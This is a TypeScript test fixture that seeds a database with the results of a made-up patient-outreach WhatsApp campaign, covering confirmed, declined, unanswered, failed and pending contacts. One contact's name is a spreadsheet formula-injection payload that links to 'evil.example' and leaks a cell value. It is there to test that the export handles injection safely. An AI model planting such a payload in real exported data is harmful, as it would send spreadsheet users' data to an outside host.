/**
 * A finished campaign's results written straight into PostgreSQL, one contact per outcome the export and
 * the retention policy must handle: confirmed (two phones, one a landline), declined with an option,
 * declined in the patient's own words, no response, failed send, a name that is a spreadsheet formula,
 * pending without birth date, no WhatsApp; plus a rejected import row. Made-up names and numbers.
 */
import { randomUUID } from "node:crypto";
import type { Pool } from "pg";

export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Clique aqui")';

export interface SeedOptions {
  namespace: string;
  name: string;
  state?: "active" | "completed" | "cancelled";
  /** completed_at / cancelled_at this many days before now. */
  finishedDaysAgo?: number;
  timeZone?: string;
  /** Distinguishes the numbers of several seeded campaigns (0-9). */
  series?: number;
  listRef?: string;
}

export interface SeededResults {
  uid: string;
  contactIds: Record<string, number>;
}

const T_SENT = "2026-08-03T11:05:00Z"; // 08:05 in Fortaleza
const T_REPLY = "2026-08-03T13:30:00Z"; // 10:30
const T_REASON = "2026-08-03T13:45:00Z"; // 10:45

export async function seedCampaignResults(pool: Pool, options: SeedOptions): Promise<SeededResults> {
  const uid = randomUUID();
  const state = options.state ?? "completed";
  const days = options.finishedDaysAgo ?? 1;
  const spec = {
    schedule: { timeZone: options.timeZone ?? "America/Fortaleza" },
    replies: {
      declineReason: {
        options: [
          { code: "done-elsewhere", label: "Já realizei o procedimento em outro hospital" },
          { code: "health-problems", label: "Problemas de saúde" },
          { code: "other", label: "Outro motivo" },
        ],
      },
    },
    ...(options.listRef ? { audience: { listRef: { name: options.listRef } } } : {}),
  };
  await pool.query(
    `INSERT INTO campaigns (uid, namespace, name, state, spec, completed_at, cancelled_at)
     VALUES ($1, $2, $3, $4, $5,
       CASE WHEN $4 = 'completed' THEN now() - make_interval(days => $6) END,
       CASE WHEN $4 = 'cancelled' THEN now() - make_interval(days => $6) END)`,
    [uid, options.namespace, options.name, state, JSON.stringify(spec), days],
  );
  const { rows: imports } = await pool.query<{ id: string }>(
    "INSERT INTO imports (campaign_uid, source, format, finished_at) VALUES ($1, 'test', 'csv', now()) RETURNING id",
    [uid],
  );
  const importId = imports[0]!.id;
  await pool.query(
    `INSERT INTO import_rejections (campaign_uid, import_id, source_row, reason_code, reason, raw)
     VALUES ($1, $2, 9, 'INVALID_DDD', 'No valid phone number ("(20) 98765-0000": INVALID_DDD)',
             '{"nome": "Rejeitado da Silva", "telefone": "(20) 98765-0000"}')`,
    [uid, importId],
  );

  const s = options.series ?? 0;
  const mobile = (n: number) => `+55859876${s}${String(n).padStart(4, "0")}`;
  const contactIds: Record<string, number> = {};
  const contact = async (
    key: string,
    row: number,
    fields: {
      name: string;
      birthDate?: string;
      procedure?: string;
      state: string;
      contacted?: boolean;
      repliedAt?: string;
      declineReason?: string;
      declineReasonText?: string;
    },
    phones: { e164: string; lineType?: "mobile" | "fixed_line" }[],
  ) => {
    const { rows } = await pool.query<{ id: number }>(
      `INSERT INTO contacts (campaign_uid, import_id, source_row, name, birth_date, procedure, fields, dedupe_key, state,
         first_contacted_at, last_contacted_at, replied_at, decline_reason, decline_reason_text)
       VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $10, $11, $12, $13) RETURNING id`,
      [
        uid,
        importId,
        row,
        fields.name,
        fields.birthDate ?? null,
        fields.procedure ?? null,
        JSON.stringify({ nome: fields.name }),
        `${key}|${row}`,
        fields.state,
        fields.contacted ? T_SENT : null,
        fields.repliedAt ?? null,
        fields.declineReason ?? null,
        fields.declineReasonText ?? null,
      ],
    );
    const id = Number(rows[0]!.id);
    contactIds[key] = id;
    const phoneIds: number[] = [];
    for (const [i, phone] of phones.entries()) {
      const lineType = phone.lineType ?? "mobile";
      const { rows: p } = await pool.query<{ id: number }>(
        `INSERT INTO phones (contact_id, campaign_uid, e164, raw, line_type, sendable, priority, wa_status, wa_address)
         VALUES ($1, $2, $3, $3, $4, $5, $6, 'registered', $7) RETURNING id`,
        [
          id,
          uid,
          phone.e164,
          lineType,
          lineType === "mobile",
          i + 1,
          `${phone.e164.slice(1)}@s.whatsapp.net`,
        ],
      );
      phoneIds.push(Number(p[0]!.id));
    }
    return { id, phoneIds };
  };
  const sent = async (
    c: { id: number; phoneIds: number[] },
    failed?: { errorClass: string; code: string },
  ) => {
    await pool.query(
      `INSERT INTO outbox (campaign_uid, contact_id, phone_id, kind, step, state, body, provider_address,
         sent_at, failed_at, error_class, error_code)
       VALUES ($1, $2, $3, 'initial', 0, $4, 'Olá! Mensagem com o nome do paciente', 'addr', $5, $6, $7, $8)`,
      [
        uid,
        c.id,
        c.phoneIds[0],
        failed ? "failed" : "read",
        failed ? null : T_SENT,
        failed ? T_SENT : null,
        failed?.errorClass ?? null,
        failed?.code ?? null,
      ],
    );
  };
  let messageId = 0;
  const reply = async (
    c: { id: number; phoneIds: number[] },
    classification: string,
    at: string,
    text: string,
  ) => {
    messageId += 1;
    await pool.query(
      `INSERT INTO inbound_messages (provider, instance, provider_message_id, from_address, from_e164, phone_id,
         contact_id, campaign_uid, text, received_at, classification, processed_at, namespace)
       VALUES ('sandbox', 'central', $1, 'from-address', '+5585000000000', $2, $3, $4, $5, $6, $7, $6, $8)`,
      [`${uid}-${messageId}`, c.phoneIds[0], c.id, uid, text, at, classification, options.namespace],
    );
  };

  const confirmed = await contact(
    "confirmed",
    2,
    {
      name: "Maria Confirmada",
      birthDate: "1958-03-12",
      procedure: "ARTROPLASTIA",
      state: "confirmed",
      contacted: true,
      repliedAt: T_REPLY,
    },
    [{ e164: mobile(1) }, { e164: `+5585336${s}0001`, lineType: "fixed_line" }],
  );
  await sent(confirmed);
  await reply(confirmed, "confirm", T_REPLY, "1");

  const declined = await contact(
    "declined",
    3,
    {
      name: "José Recusou",
      birthDate: "1971-11-05",
      procedure: "HERNIOPLASTIA",
      state: "declined",
      contacted: true,
      repliedAt: T_REPLY,
      declineReason: "health-problems",
    },
    [{ e164: mobile(2) }],
  );
  await sent(declined);
  await reply(declined, "decline", T_REPLY, "2");
  await reply(declined, "reason", T_REASON, "2");

  const ownWords = await contact(
    "ownWords",
    4,
    {
      name: "Ana Motivo",
      state: "declined",
      contacted: true,
      repliedAt: T_REPLY,
      declineReason: "other",
      declineReasonText: "mudei de cidade",
    },
    [{ e164: mobile(3) }],
  );
  await sent(ownWords);
  await reply(ownWords, "reason", T_REASON, "mudei de cidade");

  const silent = await contact(
    "noResponse",
    5,
    { name: "Pedro Silencioso", state: "no_response", contacted: true },
    [{ e164: mobile(4) }],
  );
  await sent(silent);

  const failed = await contact("failed", 6, { name: "Rita Falhou", state: "failed" }, [{ e164: mobile(5) }]);
  await sent(failed, { errorClass: "permanent", code: "131026" });

  const formula = await contact(
    "formula",
    7,
    { name: FORMULA_NAME, procedure: "-2+3", state: "sent", contacted: true },
    [{ e164: mobile(6) }],
  );
  await sent(formula);

  await contact("pending", 8, { name: "Lia Pendente", state: "pending" }, [{ e164: mobile(7) }]);
  await contact("noWhatsapp", 10, { name: "Caio Fixo", state: "no_whatsapp" }, [
    { e164: `+5585336${s}0002`, lineType: "fixed_line" },
  ]);
  return { uid, contactIds };
}
